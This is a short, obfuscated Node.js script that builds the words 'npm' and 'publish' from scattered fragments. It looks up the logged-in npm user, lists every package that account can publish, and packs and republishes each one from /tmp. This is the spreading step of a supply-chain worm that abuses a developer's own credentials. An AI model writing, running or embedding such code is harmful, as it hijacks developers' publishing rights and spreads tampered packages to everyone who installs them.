const { execSync } = require('child_process');
const pm = String.fromCharCode(110, 112, 109);
const step = ['pub', 'lish'].join('');
const who = execSync(pm + ' whoami').toString().trim();
const owned = JSON.parse(execSync(pm + ' access list packages ' + who + ' --json').toString());
for (const name of Object.keys(owned)) {
  execSync(pm + ' pack ' + name, { cwd: '/tmp' });
  execSync(pm + ' ' + step, { cwd: '/tmp/package' });
}
